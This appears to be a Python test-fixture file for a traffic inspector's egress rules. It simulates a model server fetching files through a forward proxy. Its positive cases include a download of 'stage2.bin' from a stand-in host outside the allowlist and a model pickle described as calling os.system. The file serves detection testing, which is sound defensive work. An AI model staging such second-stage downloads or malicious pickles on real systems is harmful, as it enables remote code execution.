"""Fixtures of the egress rules (signatures/egress/): a workload's requests through a forward proxy.

The captures are the workload side of a plain-HTTP forward proxy (absolute-form request targets,
`GET http://host/path`), analyzed with the fixture's `egress:` allowlists applied (test.yaml
`egress: true`, like `inspector analyze --egress`).
"""

from __future__ import annotations

import random

from inspector.lab.craft import Capture
from inspector.lab.rulecaps.fixture import Fixture
from inspector.lab.traffic_http import HttpSession, request_bytes, response_bytes
from inspector.lab.traffic_models import benign_pickle, malicious_pickle

WORKLOAD = "10.70.0.5"  # a model server fetching its model
PROXY = "10.70.0.2"
START = 1_767_225_600.0
ALLOWLISTS = {"hosts": ["pypi.org"], "registries": ["huggingface.co/acme/*"]}
MODEL = "http://huggingface.co/acme/bert/resolve/main/pytorch_model.bin"


def _get(session: HttpSession, url: str, body: bytes) -> None:
    host = url.split("://", 1)[1].split("/", 1)[0]
    session.exchange(request_bytes("GET", url, host, [("User-Agent", "huggingface_hub/0.30")]),
                     response_bytes(200, body, "application/octet-stream"))


def _destination(attack: bool):
    def build(cap: Capture, rng: random.Random) -> None:
        session = HttpSession(cap, rng, WORKLOAD, PROXY, 3128, start=START)
        _get(session, "http://pypi.org/simple/torch/", b"<html></html>")
        _get(session, MODEL, benign_pickle())
        if attack:  # a repository outside acme/*, and a host on no list
            _get(session, "http://huggingface.co/mallory/bert/resolve/main/pytorch_model.bin", benign_pickle())
            _get(session, "http://files.203-0-113-66.example/stage2.bin", b"\x7fELF")
        session.close()

    return build


def _pickle(attack: bool):
    def build(cap: Capture, rng: random.Random) -> None:
        session = HttpSession(cap, rng, WORKLOAD, PROXY, 3128, start=START)
        _get(session, MODEL, malicious_pickle() if attack else benign_pickle())
        session.close()

    return build


FIXTURES: dict[str, Fixture] = {
    "egress_destination_not_allowed": Fixture(
        sid=4800001, positive=_destination(True), negative=_destination(False), egress=ALLOWLISTS,
        parsed=("modelhub", 2, 1), positive_count=2,
        notes="A model server fetches through a plain-HTTP forward proxy with allowlists pypi.org and "
              "huggingface.co/acme/*. Positive: a Hugging Face repo outside acme/* and a host on no list; "
              "negative: only pypi.org and an acme/* model."),
    "egress_dangerous_pickle_download": Fixture(
        sid=4800002, positive=_pickle(True), negative=_pickle(False), egress=ALLOWLISTS,
        parsed=("modelhub", 1, 1),
        notes="A model server pulls huggingface.co/acme/bert's pytorch_model.bin (an allowed repo) through "
              "the forward proxy: a pickle calling os.system (positive) or a plain state dict (negative)."),
}
